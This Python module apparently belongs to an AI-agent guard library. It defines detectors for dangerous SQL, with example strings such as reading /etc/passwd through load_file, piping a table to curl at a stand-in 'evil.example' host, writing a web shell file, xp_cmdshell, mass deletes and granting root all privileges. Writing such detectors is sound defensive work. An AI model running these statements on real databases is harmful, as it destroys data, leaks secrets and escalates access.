"""Statements of SQL that change more than rows, or reach beyond them: what an agent's query should not do unseen.

A pattern finds the words (``drop table``), then the statement around them is parsed: in a text literal or a comment they
mean nothing. What does not parse is judged by its text, and so is what is cut off by the window.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from axonflow.detect.detector import Detector, InContext, Shape
from axonflow.detect.finding import Severity
from axonflow.detect.sql_statement import ParseSql, SqlStatement, begins_statement, is_within_literal, statement_before, statements_around
from axonflow.detect.sql_tokens import is_within_quotes, token_classes, without_comments

__all__ = ["dangerous_sql"]

_WINDOW_CHARS = 600
_GAP = r"(?:\s|/\*[^*]{0,32}\*/|--[^\n]{0,32}\n)"
_G = rf"{_GAP}{{1,6}}"
_NAME = r"[`\"\[]?[a-z_@#][\w$]*[`\"\]]?(?:\s*\.{1,2}\s*[`\"\[]?\w+[`\"\]]?){0,3}"
_END = r"\s*(?:;|\Z|[\"'`)}\]]|--|\#|/\*|\n\s*\n|,\s*\")"
_OBJECT = (
    "table|database|schema|view|index|user|role|login|procedure|function|trigger|sequence|type|extension|tablespace|policy"
    "|column|constraint|materialized|event|server|domain|publication|subscription|rule|package|synonym"
)
_BEFORE_OBJECT = rf"(?:(?:or{_G}(?:replace|alter)|temp|temporary|unique|global|local|external|materialized|unlogged|virtual){_G}){{0,3}}"

_Holds = Callable[[SqlStatement], bool]


def _text(expression: str) -> re.Pattern[str]:
    return re.compile(expression, re.IGNORECASE)


_DDL_TEXT = _text(
    rf"drop\s+(?:{_OBJECT})\s+(?:view\s+|concurrently\s+)?(?:if\s+exists\s+)?{_NAME}(?:\s*,\s*{_NAME})*(?:\s*\([^)]*\))?"
    rf"(?:\s+(?:on\s+{_NAME}|cascade|restrict|purge|force))*{_END}"
    rf"|truncate\s+(?:table\s+)?{_NAME}(?:\s*,\s*{_NAME})*(?:\s+(?:cascade|restrict|(?:restart|continue)\s+identity))*{_END}"
    rf"|create\s+(?:\w+\s+){{0,3}}(?:{_OBJECT})\s+(?:view\s+)?(?:if\s+not\s+exists\s+)?{_NAME}"
    rf"(?:\s*\(|\s+(?:as|on|using|owner|authorization|with|identified|for|before|after|returns?|password|superuser|is)\b|{_END})"
    rf"|alter\s+(?:{_OBJECT})\s+(?:if\s+exists\s+)?(?:only\s+)?{_NAME}(?:@\S+)?\s+(?:add|drop|alter|modify|change|rename|set"
    r"|owner|enable|disable|with|identified|convert|engine|password|attach|detach|compile)\b"
)
_SAME = r"\(*\s*('[^']*'|[\w.]+)\s*\)*\s*(?:=|like|is|>=|<=)\s*\(*\s*\1\s*\)*"
_ALWAYS = rf"(?:{_SAME}|\(*\s*(?:true|[1-9]\d*)\s*\)*|{_NAME}\s+like\s+'%+')"
_MASS_WRITE_TEXT = _text(
    rf"(?:delete\s+(?:from\s+)?{_NAME}(?:\s+as)?(?:\s+(?!where\b|returning\b)\w+)?(?:\s+returning\b[^;)]*)?|update\s+(?:only\s+)?{_NAME}(?:\s+as)?(?:\s+(?!set\b)\w+)?\s+set\s+"
    rf"{_NAME}\s*=(?:'(?:[^']|'')*'|(?!\bwhere\b)[^;'])*+)(?:{_END}|\s*\bwhere\s+(?:[^;]*?\bor\s+)?{_ALWAYS}(?:{_END}|\s+or\b))"
)
_CATALOGUE_NAME = (
    rf"(?:(?:information_schema|performance_schema|pg_catalog|sys|sysibm|syscat|master)[`\"\]]?{_GAP}{{0,4}}\.{{1,2}}{_GAP}{{0,4}}[`\"\[]?\w"
    rf"|mysql[`\"]?{_GAP}{{0,4}}\.{_GAP}{{0,4}}[`\"]?(?:user|db|tables_priv|proc|global_priv)\b"
    r"|pg_(?:class|tables|user|users|shadow|authid|roles|database|namespace|attribute|proc|settings|stat_activity|indexes|views|views"
    r"|hba_file_rules|stats|group)\b|sqlite_(?:master|schema|temp_master|temp_schema|sequence)\b"
    r"|sys(?:objects|columns|users|logins|databases|xlogins)\b|msysobjects\b"
    r"|(?:all|dba|user)_(?:tables|tab_columns|users|objects|views|source|tab_privs|role_privs|sys_privs)\b|v\$\w)"
)
_CATALOGUE_TABLE = _text(_CATALOGUE_NAME.replace(_GAP, r"\s"))
_FILE_FUNCTIONS = frozenset(
    "load_file pg_read_file pg_read_binary_file pg_ls_dir pg_stat_file lo_import lo_export load_extension readfile writefile"
    " openrowset opendatasource edit sys_exec sys_eval xp_cmdshell bfilename read_csv read_csv_auto read_parquet read_json"
    " read_text read_blob glob file s3 url".split()
)
_SHOWN = _text(r"show|describe|desc|pragma")
_PRIVILEGES = (
    "all|select|insert|update|delete|execute|usage|create|connect|references|trigger|super|file|process|alter|drop|index|grant|temporary"
)

_GRANT_TEXT = _text(
    rf"(?:grant|revoke)\s+(?:grant\s+option\s+for\s+)?(?:{_PRIVILEGES})\b[^;]*?\s(?:to|from)\s+[`\"'\[]?[\w@%]"
    r"|(?:grant|revoke)\s+(?:dba|sysdba|sysadmin|superuser|pg_\w+|rds_superuser|db_owner|connect|resource)\b"
    rf"|set\s+(?:password|role|session\s+authorization)\b"
)


def _in_statement(parse: ParseSql, holds: _Holds, text: re.Pattern[str] | None, *, anywhere: bool = False) -> InContext:
    """Whether the statement around a span `holds`; where it does not parse, whether `text` matches from the span on.

    Without `text` what does not parse is one. A span amid prose is none, unless it may stand `anywhere`.
    """

    def is_one(before: str, span: str, after: str) -> bool:
        if not anywhere and not begins_statement(before, span):
            return False
        for statement in statements_around(before, span, after):
            parsed = parse(statement) if len(after) < _WINDOW_CHARS or len(statement) < len(after) else None
            if parsed is not None:
                return any(holds(one) for one in parsed)
        if is_within_literal(before):
            return False
        return text is None or _starts(text, span, after)

    return is_one


def _starts(text: re.Pattern[str], span: str, after: str) -> bool:
    return text.match(without_comments(span + after)) is not None


def _does(*verbs: str) -> _Holds:
    wanted = frozenset(verbs)
    return lambda statement: not wanted.isdisjoint(statement.verbs)


def _writes_all_rows(statement: SqlStatement) -> bool:
    return statement.writes_all_rows


def _reads_catalogue(statement: SqlStatement) -> bool:
    return any(_CATALOGUE_TABLE.match(table) for table in statement.tables)


def _reaches_files(statement: SqlStatement) -> bool:
    return "copy" in statement.verbs or not _FILE_FUNCTIONS.isdisjoint(statement.functions)


def _is_query_before(before: str, _span: str, _after: str) -> bool:
    """Whether a statement stands before the span and the span is not in one of its text literals."""
    statement = statement_before(before)
    return statement is not None and not is_within_quotes(statement) and _QUERY.match(token_classes(statement)) is not None


_QUERY = re.compile(r"\(*(?:S(?:[nvsf(]|[^;?]*F\(*[wf(])|KLw|KFw|KwKw=|K[wu,A]*\(|K[wu]+w)")
"""Classes of what begins like a statement: ``select a from t``, ``insert into t``, ``create table t (``."""
_ENDED = re.compile(r"\(*(?:S(?:[nvsf(]|.*F\(*[wf(])|K|w\Z|w[w,]*u?\()[^?]*\Z")
_NEXT = re.compile(r"\(*(?:S(?:[nvsf(]|[^;?]*F\(*[wf(])|KLw|KFw|KwKw=|Kv|Kf|Kw\.|K(?:[;cC]|\Z))")


def _is_stacked(parse: ParseSql) -> InContext:
    def is_one(before: str, span: str, after: str) -> bool:
        first = statement_before(before)
        if first is None or is_within_quotes(first) or not _ENDED.match(token_classes(first.rpartition(";")[2])):
            return False
        following = without_comments(span[1:] + after).lstrip()
        if _NEXT.match(token_classes(following)) or _DDL_TEXT.match(following) or _GRANT_TEXT.match(following):
            return True
        return any(parse(statement) is not None for statement in statements_around("", "", following))

    return is_one


def _shape(
    pattern: str, triggers: str, in_context: InContext, *, confidence: float = 0.9, window_chars: int = _WINDOW_CHARS
) -> Shape:
    return Shape(
        pattern=f"(?i:{pattern})",
        triggers=tuple(triggers.split()),
        in_context=in_context,
        window_chars=window_chars,
        confidence=confidence,
    )


def _detector(
    name: str, severity: Severity, description: str, shapes: tuple[Shape, ...], examples: str, counter_examples: str
) -> Detector:
    return Detector(
        id=f"code.{name}",
        category="code",
        severity=severity,
        description=description,
        shapes=shapes,
        max_span_chars=300,
        examples=tuple(examples.strip("\n").split("\n")),
        counter_examples=tuple(counter_examples.strip("\n").split("\n")),
    )


def dangerous_sql(parse: ParseSql) -> tuple[Detector, ...]:
    """The detectors of dangerous SQL, judging what `parse` makes of a statement."""
    return (
        _ddl(parse), _mass_write(parse), _stacked(parse), _comment(), _catalogue(parse), _file_access(parse), _grant(parse)
    )  # fmt: skip


def _ddl(parse: ParseSql) -> Detector:
    pattern = rf"\b(?:create{_G}{_BEFORE_OBJECT}|alter{_G}|drop{_G}|truncate{_G})(?:{_OBJECT})\b|\btruncate{_G}[\w`\"\[]"
    return _detector(
        "sql_ddl",
        "high",
        "SQL that creates, alters, drops or empties a table, user or other object.",
        (
            _shape(
                pattern,
                "create alter drop truncate",
                _in_statement(parse, _does("create", "alter", "drop", "truncate"), _DDL_TEXT),
            ),
        ),
        """
DROP TABLE users
drop table if exists audit.log cascade;
CREATE OR REPLACE FUNCTION f() RETURNS void AS 'x'
alter table accounts add column is_admin boolean default true
TRUNCATE orders
select 1; drop/**/database prod
cursor.execute("DROP TABLE users")
CREATE USER eve WITH PASSWORD 'secret'
```sql\\nALTER TABLE t DROP COLUMN a;
""".replace("\\n", " "),
        """
SELECT * FROM log WHERE message = 'drop table users'
How do I drop table reservations for Friday?
DROP TABLE removes the table with its rows, so think twice.
Please create a table with two columns and alter the title.
create table tennis club
drop the index finger and truncate the tail
SELECT created_at AS "create", dropped FROM t
INSERT INTO notes (text) VALUES ('alter table x add y int')
""",
    )


def _mass_write(parse: ParseSql) -> Detector:
    pattern = (
        rf"\bdelete{_G}from{_G}[\w`\"\[@]|\bupdate{_G}[\w`\"\[\].]{{1,64}}{_G}(?:as{_G})?(?:\w{{1,32}}{_G})?set\b"
    )
    return _detector(
        "sql_mass_write",
        "critical",
        "SQL that deletes or changes all rows: no condition, or one that is always true.",
        (
            _shape(pattern, "delete update", _in_statement(parse, _writes_all_rows, _MASS_WRITE_TEXT)),
        ),
        """
DELETE FROM users
delete from users where 1=1;
UPDATE accounts SET balance = 0
update accounts set balance = 0 where true
UPDATE t SET a = 1 WHERE id = 5 OR 'x' = 'x'
delete from t where id = id
db.run('DELETE FROM sessions;')
WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone
DELETE FROM `users` WHERE name LIKE '%'
UPDATE u SET role = 'admin' WHERE (((1))) = (1) -- all of them
""",
        """
DELETE FROM users WHERE id = 5
UPDATE accounts SET balance = balance - 10 WHERE id = 7 AND balance > 10
SELECT * FROM log WHERE message = 'delete from users'
Please delete from my list the eggs and update the set of plates.
DELETE FROM t WHERE created_at < now() - interval '30 days'
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v
INSERT INTO t (id, n) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET n = 3
update users u set name = 'where' where u.id in (select id from vips)
""",
    )


def _stacked(parse: ParseSql) -> Detector:
    verbs = "select|insert|update|delete|drop|create|alter|truncate|exec|execute|declare|merge|grant|revoke|copy|set|use|call|shutdown|with|begin|commit"
    return _detector(
        "sql_stacked",
        "medium",
        "Several statements of SQL in one text.",
        (_shape(rf";{_GAP}{{0,16}}(?:{verbs})\b", "; ", _is_stacked(parse)),),
        """
SELECT 1; DROP TABLE users
select name from t where id = 3; delete from t where id = 3
UPDATE t SET a = 1 WHERE id = 2 ;/**/ INSERT INTO log VALUES (1)
BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT;
""",
        """
SELECT name FROM t WHERE id = 3;
SELECT * FROM t WHERE note = 'first; select one'
Open the door; select a seat; update your app.
for (i = 0; i < n; i++) { select(i); }; update(x);
INSERT INTO t VALUES ('a; drop table b')
""",
    )


def _comment() -> Detector:
    return _detector(
        "sql_comment",
        "low",
        "A comment within a statement of SQL: it can hide a part of it or cut it off.",
        (
            _shape(r"--|/\*|# ", "-- /* #", _is_query_before, window_chars=300, confidence=0.7),
            _shape(
                r"(?:--[^\n]{0,100}\n|/\*[^*]{0,100}\*/)\s{0,8}(?:select|insert|update|delete|create|alter|drop|with)\s",
                "select insert update delete create alter drop with",
                lambda before, span, after: bool(_QUERY.match(token_classes((span[span.find("\n") + 1 :] + after)[:200]))),
                window_chars=200,
            ),
        ),
        """
SELECT * FROM users WHERE name = 'x' -- AND active = 1
DELETE FROM t WHERE id = 1 /* only this one */
SELECT/**/a FROM t /*!50000 LIMIT 1 */
select a from t where b = 1 # rest
""",
        """
SELECT * FROM t WHERE note = 'a -- b /* c */'
We select a date -- then we order from the menu.
/* a comment of C */ int x = 1; // not SQL
git log --oneline -- src # select the last
# Title
""",
    )


def _catalogue(parse: ParseSql) -> Detector:
    def is_query(before: str, span: str, after: str) -> bool:
        return "select" in before.lower() and _in_statement(parse, _reads_catalogue, None, anywhere=True)(before, span, after)

    return _detector(
        "sql_catalogue",
        "medium",
        "SQL that reads the database's own tables: its schema, users or settings.",
        (
            _shape(
                rf"(?:\b(?:from|join|into|update)|,){_GAP}{{0,6}}[`\"\[(]{{0,3}}{_CATALOGUE_NAME}",
                "information_schema performance_schema pg_ sys master mysql sqlite_ all_ dba_ user_ v$",
                is_query,
            ),
            _shape(
                rf"\bshow{_G}(?:full{_G})?(?:tables|databases|schemas|grants|columns|processlist|create{_G}table|variables)\b"
                rf"|\bpragma{_G}(?:table_info|table_list|database_list|table_xinfo|index_list)\b",
                "show pragma",
                lambda before, span, after: begins_statement(before, span) and _SHOW_TEXT.match(span + after) is not None,
            ),
        ),
        """
SELECT table_name FROM information_schema.tables
select usename, passwd from pg_catalog.pg_shadow
SELECT name FROM sqlite_master WHERE type = 'table'
select a.x from t a join `mysql`.`user` u on a.id = u.id
SELECT name FROM [sys].[objects]
SHOW TABLES
pragma table_info(users)
""",
        """
SELECT note FROM t WHERE note = 'from information_schema.tables'
from sys.path import x
SELECT id FROM system_users JOIN user_tables_booked ON 1 = 2
What can I read from information_schema.tables?
show tables and chairs to the guests
SELECT sys.name FROM sys WHERE master.x = 1
""",
    )


_SHOW_TEXT = _text(
    r"show\s+(?:full\s+)?(?:(?:tables|databases|schemas|processlist|grants|variables)(?:\s+(?:from|in|like|for|where)\s+\S+)?"
    rf"|columns\s+(?:from|in)\s+\S+|create\s+table\s+{_NAME}){_END}|pragma\s+\w+"
)


def _file_access(parse: ParseSql) -> Detector:
    return _detector(
        "sql_file_access",
        "critical",
        "SQL that reads or writes files, runs programs or opens other servers.",
        (
            _shape(
                rf"\b(?:load_file|pg_read_(?:binary_)?file|pg_ls_dir|lo_import|lo_export|load_extension|readfile|writefile|openrowset"
                rf"|opendatasource|sys_(?:exec|eval)|bfilename)\s{{0,4}}\(\s{{0,4}}['\"0-9a-z@(]",
                "load_file pg_ lo_ load_extension readfile writefile openrowset opendatasource sys_e bfilename",
                _in_statement(parse, _reaches_files, None, anywhere=True),
            ),
            _shape(
                rf"\binto{_G}(?:out|dump)file{_GAP}{{0,6}}['\"0@(]|\bload{_G}(?:data|xml){_G}(?:(?:low_priority|concurrent|local){_G}){{0,2}}infile\b"
                rf"|\bbulk{_G}insert{_G}[\w.\[\]\"]{{1,64}}{_G}from\b|\bxp_(?:cmdshell|dirtree|fileexist|reg\w{{1,24}}|subdirs)\b{_GAP}{{0,6}}['\"@(]"
                rf"|\bexec(?:ute)?{_G}(?:master\s{{0,2}}\.{{1,2}})?(?:dbo\.)?xp_\w|\bsp_oacreate\b|\butl_(?:file|http|smtp)\s{{0,4}}\.\s{{0,4}}\w"
                rf"|\battach{_G}(?:database{_G})?'|\bdbms_(?:scheduler|java|xslprocessor)\s{{0,4}}\.",
                "outfile dumpfile infile bulk xp_ sp_oacreate utl_ attach dbms_",
                _in_statement(parse, lambda _: False, None, anywhere=True),
            ),
            _shape(
                rf"\bcopy{_G}(?:[\w.\"]{{1,64}}|\([^)]{{1,100}}\))(?:{_GAP}{{0,4}}\([^)]{{0,100}}\))?{_G}(?:from|to){_G}(?:program\b|'|\$\$)",
                "copy",
                _in_statement(parse, _reaches_files, None),
            ),
        ),
        """
SELECT load_file('/etc/passwd')
select 1 into outfile '/var/www/x.php'
COPY users TO PROGRAM 'curl https://evil.example'
COPY t FROM '/etc/passwd'
SELECT pg_read_file('postgresql.conf')
EXEC xp_cmdshell 'dir'
BULK INSERT t FROM 'c:\\x.csv'
SELECT * FROM OPENROWSET('SQLNCLI', 'server', 'select 1')
LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t
""",
        """
SELECT note FROM t WHERE note = 'load_file(''/etc/passwd'')'
COPY users FROM STDIN WITH CSV
What does load_file do, and into outfile?
copy the file to 'Documents' and bulk insert nothing
SELECT file, program FROM copies
""",
    )


def _grant(parse: ParseSql) -> Detector:
    return _detector(
        "sql_grant",
        "high",
        "SQL that gives or takes rights.",
        (
            _shape(
                rf"\b(?:grant|revoke){_G}(?:grant{_G}option{_G}for{_G})?(?:{_PRIVILEGES}|dba|sysdba|sysadmin|superuser|db_owner|pg_\w{{1,32}})\b"
                rf"(?:{_GAP}|,)[^;]{{0,120}}?\b(?:on|to|from){_G}[\w*.`\"'\[@]",
                "grant revoke",
                _in_statement(parse, _does("grant", "revoke"), _GRANT_TEXT),
            ),
        ),
        """
GRANT ALL ON users TO eve
grant select, insert on table app.users to public;
REVOKE UPDATE ON t FROM bob
GRANT ALL PRIVILEGES ON *.* TO 'root'@'%' WITH GRANT OPTION
GRANT dba TO scott
""",
        """
The council will grant all applicants access to the park.
SELECT note FROM t WHERE note = 'grant all on t to bob'
We grant funding to all, and revoke nothing from anyone.
grant me access to the file
""",
    )
